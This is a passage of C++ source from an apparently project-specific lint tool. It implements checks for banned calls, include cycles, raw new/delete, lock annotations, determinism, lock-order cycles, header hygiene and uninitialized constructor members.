using Tokens = std::vector<Token>;

bool starts_with(std::string_view text, std::string_view prefix) {
  return text.size() >= prefix.size() && text.compare(0, prefix.size(), prefix) == 0;
}

bool ends_with(std::string_view text, std::string_view suffix) {
  return text.size() >= suffix.size() &&
         text.compare(text.size() - suffix.size(), suffix.size(), suffix) == 0;
}

Violation make(std::string rule, const SourceFile& file, std::size_t line,
               std::string message) {
  Violation v;
  v.rule = std::move(rule);
  v.file = file.path;
  v.line = line;
  v.message = std::move(message);
  v.excerpt = line_excerpt(file.content, line);
  return v;
}

/// Token-anchored variant: also records the 1-based column, so SARIF
/// annotations land on the offending token instead of the whole line.
Violation make(std::string rule, const SourceFile& file, const Token& tok,
               std::string message) {
  Violation v = make(std::move(rule), file, tok.line, std::move(message));
  v.column = column_of(file.content, tok.offset);
  return v;
}

void dedup(std::vector<Violation>& out) {
  std::sort(out.begin(), out.end(), [](const Violation& a, const Violation& b) {
    return std::tie(a.file, a.line, a.rule, a.message) <
           std::tie(b.file, b.line, b.rule, b.message);
  });
  out.erase(std::unique(out.begin(), out.end(),
                        [](const Violation& a, const Violation& b) {
                          return a.file == b.file && a.line == b.line &&
                                 a.rule == b.rule && a.message == b.message;
                        }),
            out.end());
}

// ------------------------------------------------------------- banned-call

class BannedCallCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "banned-call"; }
  std::string_view summary() const noexcept override {
    return "rand/strtok/gmtime are banned in src/; std::sto* must sit inside a try "
           "block; raw exp() is banned in src/fg/ hot paths";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/")) return;
    static constexpr std::array<std::string_view, 3> kBanned = {"rand", "strtok", "gmtime"};
    static constexpr std::array<std::string_view, 8> kSto = {
        "stoi", "stol", "stoll", "stoul", "stoull", "stof", "stod", "stold"};
    const Tokens& toks = ctx.tokens.tokens;
    const bool in_fg = starts_with(ctx.file.path, "src/fg/");

    std::vector<char> block_is_try;
    std::size_t try_depth = 0;
    bool pending_try = false;
    for (std::size_t i = 0; i < toks.size(); ++i) {
      const Token& t = toks[i];
      if (t.kind == TokKind::kPunct) {
        if (t.text == "{") {
          block_is_try.push_back(pending_try ? 1 : 0);
          if (pending_try) ++try_depth;
          pending_try = false;
        } else if (t.text == "}" && !block_is_try.empty()) {
          if (block_is_try.back() != 0) --try_depth;
          block_is_try.pop_back();
        }
        continue;
      }
      if (t.kind != TokKind::kIdent) continue;
      if (t.text == "try") {
        pending_try = true;
        continue;
      }
      if (!tok::is_punct(toks, i + 1, "(")) continue;
      for (const auto banned : kBanned) {
        if (t.text == banned) {
          out.push_back(make(
              "banned-call", ctx.file, t,
              std::string(banned) + "() is banned in src/ (non-reentrant or "
                                    "non-deterministic; use util::Rng / util::strings / "
                                    "util::time_utils)"));
        }
      }
      if (in_fg && t.text == "exp") {
        out.push_back(make("banned-call", ctx.file, t,
                           "raw exp() in the fg hot path; use fg::CompiledParams "
                           "pre-exponentiated tables or util::logdomain"));
      }
      if (try_depth == 0) {
        for (const auto sto : kSto) {
          if (t.text == sto) {
            out.push_back(make("banned-call", ctx.file, t,
                               "std::" + std::string(sto) +
                                   " outside try: malformed input escapes as an uncaught "
                                   "exception; use util::parse_num"));
          }
        }
      }
    }
  }
};

// ------------------------------------------------------------- pragma-once

class PragmaOnceCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "pragma-once"; }
  std::string_view summary() const noexcept override {
    return "every .hpp starts with #pragma once";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!ends_with(ctx.file.path, ".hpp")) return;
    const Tokens& toks = ctx.tokens.tokens;
    if (toks.empty()) return;
    const bool ok = tok::is_punct(toks, 0, "#") && tok::is_ident(toks, 1, "pragma") &&
                    tok::is_ident(toks, 2, "once");
    if (!ok) {
      out.push_back(make("pragma-once", ctx.file, toks[0],
                         "header does not start with #pragma once"));
    }
  }
};

// ------------------------------------------------------- include resolution

/// Quoted includes are rooted at the module root (src/, tools/, ...),
/// matching the CMake include dirs; fall back to includer-relative.
std::ptrdiff_t resolve_include(const std::unordered_map<std::string, std::size_t>& index,
                               const std::string& includer, const std::string& inc) {
  static constexpr std::array<std::string_view, 5> kRoots = {"src/", "tools/", "bench/",
                                                             "tests/", ""};
  for (const auto root : kRoots) {
    const auto it = index.find(std::string(root) + inc);
    if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
  }
  const std::size_t slash = includer.rfind('/');
  if (slash != std::string::npos) {
    const auto it = index.find(includer.substr(0, slash + 1) + inc);
    if (it != index.end()) return static_cast<std::ptrdiff_t>(it->second);
  }
  return -1;  // system / third-party header: not part of the graph
}

// ----------------------------------------------------------- include-cycle

class IncludeCycleCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "include-cycle"; }
  std::string_view summary() const noexcept override {
    return "the quoted-include graph over the scanned files is a DAG";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    const auto& files = ctx.files;
    std::unordered_map<std::string, std::size_t> index;
    for (std::size_t i = 0; i < files.size(); ++i) index.emplace(files[i].path, i);

    std::vector<std::vector<std::size_t>> adj(files.size());
    for (std::size_t i = 0; i < files.size(); ++i) {
      for (const auto& inc : files[i].facts.quoted_includes) {
        const auto target = resolve_include(index, files[i].path, inc);
        if (target >= 0) adj[i].push_back(static_cast<std::size_t>(target));
      }
    }

    // Iterative three-color DFS; report each back edge once as a cycle.
    enum : char { kWhite, kGray, kBlack };
    std::vector<char> color(files.size(), kWhite);
    std::vector<std::size_t> stack_path;
    struct Frame {
      std::size_t node;
      std::size_t next = 0;
    };
    for (std::size_t start = 0; start < files.size(); ++start) {
      if (color[start] != kWhite) continue;
      std::vector<Frame> stack{{start}};
      color[start] = kGray;
      stack_path.push_back(start);
      while (!stack.empty()) {
        Frame& frame = stack.back();
        if (frame.next >= adj[frame.node].size()) {
          color[frame.node] = kBlack;
          stack_path.pop_back();
          stack.pop_back();
          continue;
        }
        const std::size_t v = adj[frame.node][frame.next++];
        if (color[v] == kWhite) {
          color[v] = kGray;
          stack_path.push_back(v);
          stack.push_back({v});
        } else if (color[v] == kGray) {
          std::string msg = "include cycle: ";
          const auto begin = std::find(stack_path.begin(), stack_path.end(), v);
          for (auto it = begin; it != stack_path.end(); ++it) {
            msg += files[*it].path + " -> ";
          }
          msg += files[v].path;
          Violation viol;
          viol.rule = "include-cycle";
          viol.file = files[frame.node].path;
          viol.line = 1;
          viol.message = std::move(msg);
          viol.excerpt = files[v].path;
          out.push_back(std::move(viol));
        }
      }
    }
  }
};

// ---------------------------------------------------------- raw-new-delete

class RawNewDeleteCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "raw-new-delete"; }
  std::string_view summary() const noexcept override {
    return "no naked new/delete outside src/util/ (placement new into owned storage "
           "is exempt)";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/") || starts_with(ctx.file.path, "src/util/")) {
      return;
    }
    const Tokens& toks = ctx.tokens.tokens;
    for (std::size_t i = 0; i < toks.size(); ++i) {
      const Token& t = toks[i];
      if (t.kind != TokKind::kIdent || t.in_pp) continue;
      const bool is_new = t.text == "new";
      const bool is_delete = t.text == "delete";
      if (!is_new && !is_delete) continue;
      if (i > 0 && tok::is_ident(toks, i - 1, "operator")) continue;  // overload decl
      if (is_delete && i > 0 && tok::is_punct(toks, i - 1, "=")) continue;  // = delete
      // Placement new constructs into storage the caller already owns
      // (e.g. src/sim/callback_slot.hpp's inline buffer); ownership never
      // transfers, so it is not the leak class this rule exists for.
      if (is_new && tok::is_punct(toks, i + 1, "(")) continue;
      out.push_back(make("raw-new-delete", ctx.file, t,
                         std::string(is_new ? "new" : "delete") +
                             " outside src/util/: own memory via std::unique_ptr/containers"));
    }
  }
};

// --------------------------------------------------------------- guarded-by

bool mutating_method(std::string_view name) {
  static const std::unordered_set<std::string_view> kMethods = {
      "push_back", "emplace_back", "emplace", "pop_back", "pop",    "push",
      "clear",     "insert",       "erase",   "assign",   "resize", "reserve",
      "swap",      "merge",        "extract"};
  return kMethods.contains(name);
}

bool member_name(std::string_view text) {
  return text.size() >= 2 && text.back() == '_' &&
         std::isdigit(static_cast<unsigned char>(text.front())) == 0;
}

class GuardedByCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "guarded-by"; }
  std::string_view summary() const noexcept override {
    return "a field written inside a util::LockGuard scope is declared with "
           "AT_GUARDED_BY or AT_NOT_GUARDED";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/")) return;
    const Tokens& toks = ctx.tokens.tokens;

    // A field counts as annotated when some line of this file or the
    // sibling header mentions it together with AT_GUARDED_BY/AT_NOT_GUARDED
    // (declaration lines carry the annotation by convention).
    std::unordered_set<std::string> annotated;
    const auto harvest = [&annotated](const TokenStream* stream) {
      if (stream == nullptr) return;
      const Tokens& ts = stream->tokens;
      std::size_t i = 0;
      while (i < ts.size()) {
        const std::uint32_t line = ts[i].line;
        std::size_t end = i;
        bool has_marker = false;
        while (end < ts.size() && ts[end].line == line) {
          if (ts[end].kind == TokKind::kIdent &&
              (ts[end].text == "AT_GUARDED_BY" || ts[end].text == "AT_NOT_GUARDED")) {
            has_marker = true;
          }
          ++end;
        }
        if (has_marker) {
          for (std::size_t k = i; k < end; ++k) {
            if (ts[k].kind == TokKind::kIdent && member_name(ts[k].text)) {
              annotated.insert(ts[k].text);
            }
          }
        }
        i = end;
      }
    };
    harvest(&ctx.tokens);
    harvest(ctx.sibling_tokens);

    for (std::size_t i = 0; i < toks.size(); ++i) {
      if (!tok::is_ident(toks, i, "LockGuard")) continue;
      std::size_t j = i + 1;
      if (j < toks.size() && toks[j].kind == TokKind::kIdent) ++j;
      if (!tok::is_punct(toks, j, "(")) continue;
      const std::size_t close = tok::match_forward(toks, j, "(", ")");
      if (close == tok::kNpos) continue;
      // Writes between the acquisition and the close of the enclosing
      // brace scope happen with the mutex held.
      int depth = 0;
      for (std::size_t k = close + 1; k < toks.size(); ++k) {
        const Token& t = toks[k];
        if (t.kind == TokKind::kPunct) {
          if (t.text == "{") ++depth;
          if (t.text == "}" && --depth < 0) break;
          continue;
        }
        if (t.kind != TokKind::kIdent || !member_name(t.text)) continue;
        bool write = false;
        // Both arms must already be string_views: a `string : const char*`
        // ternary materializes a std::string temporary and the view dangles.
        const std::string_view next =
            k + 1 < toks.size() ? std::string_view(toks[k + 1].text) : std::string_view();
        const std::string_view prev =
            k > 0 ? std::string_view(toks[k - 1].text) : std::string_view();
        static constexpr std::array<std::string_view, 8> kCompound = {
            "+=", "-=", "*=", "/=", "%=", "|=", "&=", "^="};
        if (next == "=") write = true;
        if (std::find(kCompound.begin(), kCompound.end(), next) != kCompound.end()) {
          write = true;
        }
        if (next == "++" || next == "--" || prev == "++" || prev == "--") write = true;
        if (next == "." && k + 3 < toks.size() && toks[k + 2].kind == TokKind::kIdent &&
            tok::is_punct(toks, k + 3, "(") && mutating_method(toks[k + 2].text)) {
          write = true;
        }
        if (write && !annotated.contains(t.text)) {
          out.push_back(make(
              "guarded-by", ctx.file, t,
              t.text + " is written under a held util::LockGuard but its declaration "
                       "has neither AT_GUARDED_BY nor AT_NOT_GUARDED"));
        }
      }
      i = close;
    }
    dedup(out);
  }
};

// ------------------------------------------------------------- determinism

class DeterminismCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "determinism"; }
  std::string_view summary() const noexcept override {
    return "no unordered-container iteration feeding an order-sensitive sink (local "
           "declarations per-file, container fields across TUs); no "
           "std::random_device/system_clock/std::time outside src/util/{rng,time_utils}";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/")) return;
    if (starts_with(ctx.file.path, "src/util/rng") ||
        starts_with(ctx.file.path, "src/util/time_utils")) {
      return;  // the blessed wrappers themselves
    }
    const Tokens& toks = ctx.tokens.tokens;

    // Part 1: nondeterministic sources.
    for (std::size_t i = 0; i < toks.size(); ++i) {
      const Token& t = toks[i];
      if (t.kind != TokKind::kIdent || t.in_pp) continue;
      if (t.text == "random_device") {
        out.push_back(make("determinism", ctx.file, t,
                           "std::random_device is nondeterministic; seed util::Rng from "
                           "configuration instead"));
      } else if (t.text == "system_clock") {
        out.push_back(make("determinism", ctx.file, t,
                           "wall-clock reads break replayability; use util::time_utils or "
                           "the sim clock"));
      } else if (t.text == "time" && i >= 2 && tok::is_punct(toks, i - 1, "::") &&
                 tok::is_ident(toks, i - 2, "std") && tok::is_punct(toks, i + 1, "(")) {
        out.push_back(make("determinism", ctx.file, t,
                           "std::time() reads the wall clock; use util::time_utils or the "
                           "sim clock"));
      }
    }

    // Part 2: unordered iteration feeding an order-sensitive sink, for
    // range variables the file (or its sibling header) declares itself.
    // Member-shaped variables with no local declaration become PendingLoop
    // facts instead, resolved in project() below.
    facts::DeclSets sets;
    facts::harvest_decls(&ctx.tokens, sets);
    facts::harvest_decls(ctx.sibling_tokens, sets);
    for (const facts::LoopSink& sink : facts::scan_unordered_loops(ctx.tokens, sets)) {
      if (!sink.resolved) continue;
      out.push_back(make(
          "determinism", ctx.file, sink.line,
          "iteration over unordered container '" + sink.range_var +
              "' feeds order-sensitive sink '" + sink.var + "' (" + sink.what +
              "); iterate a sorted view, use an ordered sink, or sort the result"));
    }
    dedup(out);
  }

  /// Cross-TU half (ROADMAP carry-over): a pending loop fires when every
  /// container field of that name declared inside the file's include
  /// closure is unordered. One ordered or sequence declaration in scope
  /// vetoes the finding — attribution would be guesswork.
  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    if (ctx.graph == nullptr) return;
    struct Decl {
      std::size_t file;
      char kind;
    };
    std::unordered_map<std::string, std::vector<Decl>> fields;
    for (std::size_t i = 0; i < ctx.files.size(); ++i) {
      for (const auto& field : ctx.files[i].facts.container_fields) {
        fields[field.name].push_back({i, field.kind});
      }
    }
    for (const auto& fa : ctx.files) {
      if (!starts_with(fa.path, "src/")) continue;
      const auto closure_it = ctx.graph->closure.find(fa.path);
      if (closure_it == ctx.graph->closure.end()) continue;
      const auto& reach = closure_it->second;
      for (const auto& pending : fa.facts.pending_loops) {
        const auto it = fields.find(pending.range_var);
        if (it == fields.end()) continue;
        std::size_t unordered_decl = ProjectGraph::kNone;
        bool vetoed = false;
        for (const Decl& d : it->second) {
          if (!reach.contains(ctx.files[d.file].path)) continue;
          if (d.kind == 'u') {
            unordered_decl = d.file;
          } else {
            vetoed = true;
            break;
          }
        }
        if (vetoed || unordered_decl == ProjectGraph::kNone) continue;
        Violation v;
        v.rule = "determinism";
        v.file = fa.path;
        v.line = pending.line;
        v.message = "iteration over unordered container field '" + pending.range_var +
                    "' (declared in " + ctx.files[unordered_decl].path +
                    ") feeds order-sensitive sink '" + pending.sink_var + "' (" +
                    pending.sink_what +
                    "); iterate a sorted view, use an ordered sink, or sort the result";
        v.excerpt = pending.range_var;
        out.push_back(std::move(v));
      }
    }
  }
};

// -------------------------------------------------------------- lock-order

class LockOrderCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "lock-order"; }
  std::string_view summary() const noexcept override {
    return "the LockGuard acquisition graph (nested scopes, AT_ACQUIRED_* hints, and "
           "call-graph-propagated helper acquisitions + AT_ACQUIRES annotations) is "
           "cycle-free";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    struct Attribution {
      std::string file;
      std::uint32_t line = 0;
    };
    std::map<std::string, std::set<std::string>> adj;  // ordered: stable reports
    std::map<std::pair<std::string, std::string>, Attribution> where;
    for (const auto& fa : ctx.files) {
      for (const auto& edge : fa.facts.lock_edges) {
        adj[edge.first].insert(edge.second);
        adj.try_emplace(edge.second);
        where.try_emplace({edge.first, edge.second}, Attribution{fa.path, edge.line});
      }
    }
    // Helper propagation (ROADMAP carry-over): a mutex held at a call site
    // precedes everything the callee's transitive summary acquires, even
    // though no LockGuard is visible at the site itself.
    if (ctx.graph != nullptr) {
      for (const auto& edge : ctx.graph->propagated_lock_edges) {
        adj[edge.first].insert(edge.second);
        adj.try_emplace(edge.second);
        where.try_emplace({edge.first, edge.second}, Attribution{edge.file, edge.line});
      }
    }

    // DFS from every node; report each cycle once, canonicalized to start
    // at its lexicographically smallest member.
    std::set<std::string> reported;
    enum : char { kWhite, kGray, kBlack };
    std::map<std::string, char> color;
    for (const auto& [node, _] : adj) color[node] = kWhite;
    std::vector<std::string> path;

    const std::function<void(const std::string&)> dfs = [&](const std::string& u) {
      color[u] = kGray;
      path.push_back(u);
      for (const auto& v : adj[u]) {
        if (color[v] == kWhite) {
          dfs(v);
        } else if (color[v] == kGray) {
          const auto begin = std::find(path.begin(), path.end(), v);
          std::vector<std::string> cycle(begin, path.end());
          const auto smallest = std::min_element(cycle.begin(), cycle.end());
          std::rotate(cycle.begin(), smallest, cycle.end());
          std::string canon;
          for (const auto& m : cycle) canon += m + "|";
          if (!reported.insert(canon).second) continue;
          std::string chain;
          for (const auto& m : cycle) chain += m + " -> ";
          chain += cycle.front();
          const Attribution& attr = where[{path.back(), v}];
          Violation viol;
          viol.rule = "lock-order";
          viol.file = attr.file;
          viol.line = attr.line;
          viol.message =
              "potential deadlock: lock acquisition cycle " + chain +
              " (from nested util::LockGuard scopes, AT_ACQUIRED_BEFORE/AFTER hints, "
              "and AT_ACQUIRES summaries propagated through the call graph)";
          viol.excerpt = chain;
          out.push_back(std::move(viol));
        }
      }
      path.pop_back();
      color[u] = kBlack;
    };
    for (const auto& [node, _] : adj) {
      if (color[node] == kWhite) dfs(node);
    }
  }
};

// ----------------------------------------------------------- header-hygiene

class HeaderHygieneCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "header-hygiene"; }
  std::string_view summary() const noexcept override {
    return "a src/ file naming a type declared by a project header it reaches only "
           "through a deep transitive chain (3+ hops) must include that header "
           "directly";
  }

  void project(const ProjectCtx& ctx, std::vector<Violation>& out) const override {
    const auto& files = ctx.files;
    std::unordered_map<std::string, std::size_t> index;
    for (std::size_t i = 0; i < files.size(); ++i) index.emplace(files[i].path, i);

    // Who declares what, among src/ headers. Ambiguous names (declared by
    // several headers) are skipped — attribution would be guesswork.
    std::unordered_map<std::string, std::vector<std::size_t>> declared_by;
    for (std::size_t i = 0; i < files.size(); ++i) {
      if (!starts_with(files[i].path, "src/") || !ends_with(files[i].path, ".hpp")) {
        continue;
      }
      for (const auto& type : files[i].facts.declared_types) {
        declared_by[type].push_back(i);
      }
    }

    std::vector<std::vector<std::size_t>> adj(files.size());
    for (std::size_t i = 0; i < files.size(); ++i) {
      for (const auto& inc : files[i].facts.quoted_includes) {
        const auto target = resolve_include(index, files[i].path, inc);
        if (target >= 0) adj[i].push_back(static_cast<std::size_t>(target));
      }
    }

    for (std::size_t f = 0; f < files.size(); ++f) {
      if (!starts_with(files[f].path, "src/")) continue;
      if (adj[f].empty()) continue;
      // BFS include-distance from this file. A type provided by a direct
      // include or by one level of re-export (the repo's "vocabulary
      // header" idiom, e.g. alert.hpp re-exporting taxonomy.hpp) is fine;
      // only chains of 3+ hops are fragile enough to flag. A .cpp counts
      // its paired header as part of itself (IWYU convention), so the
      // header's own includes start at distance 1.
      std::unordered_map<std::size_t, std::size_t> dist;
      std::vector<std::size_t> frontier;
      for (const std::size_t d : adj[f]) {
        if (dist.emplace(d, 1).second) frontier.push_back(d);
      }
      const std::string sib = sibling_header_path(files[f].path);
      const auto sib_it = sib.empty() ? index.end() : index.find(sib);
      if (sib_it != index.end()) {
        dist[sib_it->second] = 0;
        for (const std::size_t d : adj[sib_it->second]) {
          if (dist.emplace(d, 1).second) frontier.push_back(d);
        }
      }
      std::size_t level = 1;
      while (!frontier.empty()) {
        ++level;
        std::vector<std::size_t> next;
        for (const std::size_t u : frontier) {
          for (const std::size_t v : adj[u]) {
            if (dist.emplace(v, level).second) next.push_back(v);
          }
        }
        frontier = std::move(next);
      }

      std::unordered_set<std::string> satisfied(files[f].facts.declared_types.begin(),
                                                files[f].facts.declared_types.end());
      for (const auto& [node, d] : dist) {
        if (d > 2) continue;
        for (const auto& type : files[node].facts.declared_types) satisfied.insert(type);
      }

      for (const auto& use : files[f].facts.used_types) {
        if (satisfied.contains(use.name)) continue;
        const auto decl = declared_by.find(use.name);
        if (decl == declared_by.end() || decl->second.size() != 1) continue;
        const std::size_t h = decl->second.front();
        if (h == f) continue;
        const auto reach = dist.find(h);
        if (reach == dist.end() || reach->second <= 2) continue;
        Violation v;
        v.rule = "header-hygiene";
        v.file = files[f].path;
        v.line = use.line;
        v.message = "uses '" + use.name + "' declared in " + files[h].path +
                    " but reaches it only transitively; #include \"" +
                    files[h].path.substr(4) + "\" directly";
        v.excerpt = use.name;
        out.push_back(std::move(v));
      }
    }
  }
};

// ------------------------------------------------------------ uninit-member

class UninitMemberCheck final : public Check {
 public:
  std::string_view name() const noexcept override { return "uninit-member"; }
  std::string_view summary() const noexcept override {
    return "a constructor must not leave a scalar/pointer field with no default "
           "initializer unassigned";
  }

  void file(const FileCtx& ctx, std::vector<Violation>& out) const override {
    if (!starts_with(ctx.file.path, "src/") && !starts_with(ctx.file.path, "tools/")) {
      return;
    }
    analyze_stream(ctx.tokens.tokens, ctx.file, /*classes_only_from_sibling=*/nullptr, out);
    if (ctx.sibling_tokens != nullptr) {
      // Classes declared in the sibling header whose constructors are
      // defined out-of-line in this .cpp.
      analyze_stream(ctx.tokens.tokens, ctx.file, &ctx.sibling_tokens->tokens, out);
    }
    dedup(out);
  }

 private:
  struct Field {
    std::string name;
    std::uint32_t line = 0;
  };
  struct Ctor {
    std::uint32_t line = 0;
    bool defaulted = false;
    bool skip = false;  // copy/move/deleted/delegating/opaque/unseen body
    std::unordered_set<std::string> inited;
  };
  struct ClassInfo {
    std::string name;
    std::vector<Field> uninit_fields;
    std::vector<Ctor> ctors;
    bool any_ctor_decl = false;
  };

  static bool scalar_type(std::string_view text) {
    static const std::unordered_set<std::string_view> kScalar = {
        "bool",          "char",     "short",    "int",      "long",     "unsigned",
        "signed",        "float",    "double",   "size_t",   "ssize_t",  "ptrdiff_t",
        "int8_t",        "int16_t",  "int32_t",  "int64_t",  "uint8_t",  "uint16_t",
        "uint32_t",      "uint64_t", "intptr_t", "uintptr_t", "char8_t", "char16_t",
        "char32_t",      "wchar_t"};
    return kScalar.contains(text);
  }

  /// Parse the class definitions in `class_toks` (defaults to `toks`) and
  /// evaluate their constructors; out-of-line `X::X(...)` definitions are
  /// read from `toks`. When `sibling_classes` is set, ONLY out-of-line
  /// constructors are evaluated (the sibling's in-class ones are covered
  /// when the sibling is analyzed as its own file).
  void analyze_stream(const Tokens& toks, const SourceFile& file,
                      const Tokens* sibling_classes, std::vector<Violation>& out) const {
    const Tokens& class_toks = sibling_classes != nullptr ? *sibling_classes : toks;
    std::vector<ClassInfo> classes = parse_classes(class_toks, sibling_classes != nullptr);
    if (classes.empty()) return;
    std::unordered_map<std::string, ClassInfo*> by_name;
    for (auto& c : classes) by_name.emplace(c.name, &c);

    // Out-of-line constructor definitions in this file.
    for (std::size_t i = 0; i + 3 < toks.size(); ++i) {
      if (toks[i].kind != TokKind::kIdent || !tok::is_punct(toks, i + 1, "::") ||
          !tok::is_ident(toks, i + 2, toks[i].text) || !tok::is_punct(toks, i + 3, "(")) {
        continue;
      }
      const auto it = by_name.find(toks[i].text);
      if (it == by_name.end()) continue;
      Ctor ctor = parse_ctor(toks, i + 2, i + 3, it->first);
      if (ctor.line != 0) it->second->ctors.push_back(std::move(ctor));
    }

    for (const auto& c : classes) {
      if (c.uninit_fields.empty()) continue;
      for (const auto& ctor : c.ctors) {
        if (ctor.skip) continue;
        for (const auto& field : c.uninit_fields) {
          if (ctor.inited.contains(field.name)) continue;
          const std::uint32_t line = sibling_classes != nullptr ? ctor.line : field.line;
          out.push_back(make(
              "uninit-member", file, line,
              "constructor " + c.name + "::" + c.name + " (line " +
                  std::to_string(ctor.line) + ") leaves scalar/pointer field '" +
                  field.name + "' uninitialized and it has no default initializer"));
        }
      }
    }
  }

  /// Parse `Name(params) [: init-list] {body}` with the name token at
  /// `name_idx` and `(` at `open_idx`. Returns line 0 when it is a
  /// declaration only (no body here).
  Ctor parse_ctor(const Tokens& toks, std::size_t name_idx, std::size_t open_idx,
                  const std::string& class_name) const {
    Ctor ctor;
    const std::size_t params_close = tok::match_forward(toks, open_idx, "(", ")");
    if (params_close == tok::kNpos) return ctor;
    // Copy/move constructors get memberwise semantics — skip.
    for (std::size_t k = open_idx + 1; k < params_close; ++k) {
      if (tok::is_ident(toks, k, class_name)) {
        ctor.skip = true;
        break;
      }
    }
    std::size_t j = params_close + 1;
    while (tok::is_ident(toks, j, "noexcept") || tok::is_ident(toks, j, "explicit")) ++j;
    if (tok::is_punct(toks, j, "(")) {  // noexcept(...)
      const std::size_t c = tok::match_forward(toks, j, "(", ")");
      if (c == tok::kNpos) return ctor;
      j = c + 1;
    }
    if (tok::is_punct(toks, j, "=")) {
      if (tok::is_ident(toks, j + 1, "default")) {
        ctor.line = toks[name_idx].line;
        ctor.defaulted = true;  // initializes nothing the fields don't
        return ctor;
      }
      ctor.skip = true;  // = delete
      ctor.line = toks[name_idx].line;
      return ctor;
    }
    if (tok::is_punct(toks, j, ":")) {
      ++j;
      while (j < toks.size()) {
        if (toks[j].kind == TokKind::kIdent) {
          const std::string member = toks[j].text;
          std::size_t g = j + 1;
          // Qualified base-class names (ns::Base<T>) — skip to the group.
          while (tok::is_punct(toks, g, "::") ||
                 (g < toks.size() && toks[g].kind == TokKind::kIdent)) {
            ++g;
          }
          if (tok::is_punct(toks, g, "<")) {
            const std::size_t c = tok::skip_template_args(toks, g);
            if (c == tok::kNpos) return ctor;
            g = c + 1;
          }
          if (tok::is_punct(toks, g, "(") || tok::is_punct(toks, g, "{")) {
            const bool paren = toks[g].text == "(";
            const std::size_t c =
                tok::match_forward(toks, g, paren ? "(" : "{", paren ? ")" : "}");
            if (c == tok::kNpos) return ctor;
            if (member == class_name) ctor.skip = true;  // delegating
            ctor.inited.insert(member);
            j = c + 1;
            if (tok::is_punct(toks, j, ",")) {
              ++j;
              continue;
            }
          }
        }
        break;
      }
    }
    if (!tok::is_punct(toks, j, "{")) return ctor;  // declaration only
    const std::size_t body_close = tok::match_forward(toks, j, "{", "}");
    if (body_close == tok::kNpos) return ctor;
    ctor.line = toks[name_idx].line;
    for (std::size_t k = j + 1; k < body_close; ++k) {
      if (toks[k].kind != TokKind::kIdent) continue;
      const std::string_view next =
          k + 1 < toks.size() ? std::string_view(toks[k + 1].text) : std::string_view();
      if (next == "=" || next == "+=" || next == "-=" || next == "|=" || next == "&=") {
        ctor.inited.insert(toks[k].text);
        continue;
      }
      // Any call could initialize fields behind our back: treat the
      // constructor as opaque (prefer false negatives).
      static const std::unordered_set<std::string_view> kNotCalls = {
          "if",          "for",         "while",       "switch",           "return",
          "sizeof",      "static_cast", "const_cast",  "reinterpret_cast", "assert",
          "dynamic_cast"};
      if (next == "(" && !kNotCalls.contains(toks[k].text)) {
        ctor.skip = true;
        break;
      }
    }
    return ctor;
  }

  std::vector<ClassInfo> parse_classes(const Tokens& toks, bool decls_only) const {
    std::vector<ClassInfo> out;
    for (std::size_t i = 0; i < toks.size(); ++i) {
      if (!tok::is_ident(toks, i, "class") && !tok::is_ident(toks, i, "struct")) continue;
      std::size_t j = i + 1;
      std::string name;
      while (j < toks.size() && toks[j].kind == TokKind::kIdent) {
        if (toks[j].text == "final") break;
        name = toks[j].text;
        ++j;
      }
      if (name.empty()) continue;
      while (tok::is_ident(toks, j, "final")) ++j;
      // Base clause: scan to the body's '{' (a ';' first means fwd decl).
      while (j < toks.size() && !tok::is_punct(toks, j, "{") && !tok::is_punct(toks, j, ";")) {
        ++j;
      }
      if (!tok::is_punct(toks, j, "{")) continue;
      const std::size_t body_close = tok::match_forward(toks, j, "{", "}");
      if (body_close == tok::kNpos) continue;

      ClassInfo info;
      info.name = name;
      parse_body(toks, j, body_close, decls_only, info);
      out.push_back(std::move(info));
      // Nested classes are re-discovered by the outer scan naturally.
    }
    return out;
  }

  void parse_body(const Tokens& toks, std::size_t body_open, std::size_t body_close,
                  bool decls_only, ClassInfo& info) const {
    int depth = 0;
    bool stmt_start = true;
    for (std::size_t k = body_open + 1; k < body_close; ++k) {
      const Token& t = toks[k];
      if (t.kind == TokKind::kPunct) {
        if (t.text == "{") ++depth;
        if (t.text == "}") --depth;
        if (t.text == ";" || t.text == "{" || t.text == "}" || t.text == ":") {
          stmt_start = true;
        }
        continue;
      }
      if (depth != 0 || t.kind != TokKind::kIdent || !stmt_start) continue;
      stmt_start = false;

      // `explicit` is transparent: the constructor name follows it.
      if (t.text == "explicit") {
        stmt_start = true;
        continue;
      }

      // Constructor?
      if (t.text == info.name && tok::is_punct(toks, k + 1, "(")) {
        info.any_ctor_decl = true;
        if (!decls_only) {
          Ctor ctor = parse_ctor(toks, k, k + 1, info.name);
          if (ctor.line != 0) info.ctors.push_back(std::move(ctor));
        }
        // Skip past the parameter list so params aren't parsed as fields.
        const std::size_t c = tok::match_forward(toks, k + 1, "(", ")");
        if (c != tok::kNpos) k = c;
        continue;
      }

      // Scalar/pointer field without an initializer?
      std::size_t j = k;
      bool skip_decl = false;
      while (j < body_close && toks[j].kind == TokKind::kIdent &&
             (toks[j].text == "const" || toks[j].text == "constexpr" ||
              toks[j].text == "static" || toks[j].text == "inline" ||
              toks[j].text == "mutable" || toks[j].text == "volatile")) {
        if (toks[j].text != "mutable" && toks[j].text != "volatile") skip_decl = true;
        ++j;
      }
      if (skip_decl) continue;
      if (tok::is_ident(toks, j, "std") && tok::is_punct(toks, j + 1, "::")) j += 2;
      bool scalar = false;
